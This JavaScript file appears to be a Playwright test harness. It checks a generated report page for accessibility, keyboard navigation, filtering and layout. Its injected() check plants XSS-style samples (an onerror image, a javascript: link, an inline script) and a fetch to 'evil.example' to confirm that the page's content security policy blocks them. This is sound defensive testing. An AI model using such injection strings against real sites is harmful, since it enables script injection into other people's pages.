// Opens pages in a browser as people would: one JSON request a line on standard input, one JSON answer a line on standard output.
'use strict';
const fs = require('fs');
const path = require('path');
const readline = require('readline');
const { pathToFileURL } = require('url');
const { createRequire } = require('module');
// The libraries lie beside the build, not beside this file.
const load = createRequire(path.join(process.argv[2], 'package.json'));
const { chromium } = load('playwright-core');
const axe = fs.readFileSync(load.resolve('axe-core/axe.min.js'), 'utf8');
const FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
  '--disable-component-update', '--disable-sync'];
const SIZES = { desktop: { width: 1280, height: 900 }, phone: { width: 390, height: 844 } };

// Everything that a page says or asks for.
async function opened(browser, file, options) {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  const said = { console: [], errors: [], requests: [] };
  page.on('console', (message) => said.console.push(`${message.type()}: ${message.text()}`));
  page.on('pageerror', (error) => said.errors.push(String(error)));
  page.on('dialog', (dialog) => { said.errors.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  page.on('request', (request) => said.requests.push(request.url()));
  const url = pathToFileURL(file).href;
  await page.goto(url);
  return { context, page, said, url };
}

// Structure, keyboard and filter, at the desktop's width.
async function looked(browser, request) {
  const began = Date.now();
  const { context, page, said, url } = await opened(browser, request.page, { viewport: SIZES.desktop });
  const interactive = await page.evaluate(() => performance.getEntriesByType('navigation')[0].domInteractive);
  const loaded = Date.now() - began;
  const answer = {
    title: await page.title(),
    rows: await page.locator('#checks tbody tr').count(),
    nodes: await page.locator('svg rect.box').count(),
    executed: await page.evaluate(() => Boolean(window.pwned)),
    foreign: await page.locator('img, iframe, object, embed, link, video, audio, base, [onerror], [onload], [onclick]').count(),
  };
  answer.keyboard = await keyboard(page);
  answer.filter = await filtered(page);
  answer.console = [...said.console];
  answer.requests = said.requests.filter((asked) => asked !== url);
  answer.injected = await injected(page);
  Object.assign(answer, { errors: said.errors, interactive, loaded });
  await context.close();
  return answer;
}

// Tab goes through everything that can be used, and comes to an end.
async function keyboard(page) {
  const wanted = await page.evaluate(() => {
    const all = [...document.querySelectorAll('a[href], input, select, button, summary, [tabindex="0"]')];
    const shown = all.filter((part) => part.checkVisibility());
    shown.forEach((part, at) => part.setAttribute('data-at', at));
    return shown.length;
  });
  const met = new Set();
  let outlined = 0;
  for (let step = 0; step < wanted + 2; step += 1) {
    await page.keyboard.press('Tab');
    const at = await page.evaluate(() => {
      const now = document.activeElement;
      if (!now || now === document.body) { return null; }
      const style = getComputedStyle(now);
      return { at: now.getAttribute('data-at'), outline: style.outlineStyle !== 'none' && style.outlineWidth !== '0px' };
    });
    if (at && at.at !== null) { met.add(at.at); outlined += at.outline ? 1 : 0; }
  }
  return { wanted, met: met.size, outlined };
}

// Words, result and rule narrow the table down; clearing brings everything back.
async function filtered(page) {
  // The page waits until nobody types any more.
  const shown = async () => {
    await page.waitForTimeout(200);
    return visible();
  };
  const visible = () => page.evaluate(() => [...document.querySelectorAll('#checks tbody tr')].filter((row) => !row.hidden).length);
  const first = await page.evaluate(() => {
    const row = document.querySelector('#checks tbody tr');
    return { rule: row.dataset.rule, result: row.dataset.result, on: row.children[2].textContent };
  });
  const all = await shown();
  const began = Date.now();
  await page.focus('#words');
  await page.keyboard.type('no such words');
  const none = await shown();
  const typed = Date.now() - began;
  await page.fill('#words', first.on);
  const words = await shown();
  await page.fill('#words', '');
  await page.selectOption('#result', first.result);
  const result = await shown();
  await page.selectOption('#rule', first.rule);
  const rule = await shown();
  await page.locator('#filter button').focus();
  await page.keyboard.press('Enter');
  return { all, none, words, result, rule, cleared: await shown(), said: await page.textContent('#shown'), typed };
}

// What an attacker would put into the page does not run, and nothing goes out.
async function injected(page) {
  return page.evaluate(async () => {
    const blocked = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.pwned = true';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="x.png" onerror="window.pwned=true"><a id="bad" href="javascript:window.pwned=true">x</a><style>body{display:none}</style>';
    document.body.append(holder);
    document.getElementById('bad').click();
    let asked = true;
    try { await fetch('https://evil.example/'); } catch { asked = false; }
    await new Promise((done) => setTimeout(done, 100));
    const hidden = getComputedStyle(document.body).display === 'none';
    holder.remove();
    script.remove();
    return { blocked: [...new Set(blocked)].sort(), executed: Boolean(window.pwned), asked, hidden };
  });
}

// How it looks: width and colours. Nothing may stick out; axe looks for what people with other eyes or hands cannot use.
async function seen(browser, request) {
  const { width, scheme, print } = request;
  const { context, page, said } = await opened(browser, request.page, {
    viewport: SIZES[width], colorScheme: scheme, deviceScaleFactor: 1, bypassCSP: true,
  });
  if (print) { await page.emulateMedia({ media: 'print' }); }
  const answer = { errors: said.errors };
  answer.overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  if (request.axe) {
    await page.evaluate(axe);
    const found = await page.evaluate(() => window.axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21aa', 'wcag22aa'] }));
    answer.axe = found.violations.map((one) => `${one.id}: ${one.nodes.slice(0, 3).map((node) => node.target.join(' ')).join(', ')}`);
  }
  if (request.shot) { await page.screenshot({ path: request.shot, fullPage: request.full !== false }); }
  if (request.pdf) { await page.pdf({ path: request.pdf, format: 'A4' }); }
  await context.close();
  return answer;
}

const ASKED = { looked, seen };

async function main() {
  const browser = await chromium.launch({ executablePath: process.argv[3], args: FLAGS });
  for await (const line of readline.createInterface({ input: process.stdin })) {
    const request = JSON.parse(line);
    const answer = await ASKED[request.ask](browser, request).catch((error) => ({ failed: String(error) }));
    process.stdout.write(`${JSON.stringify(answer)}\n`);
  }
  await browser.close();
}

main();
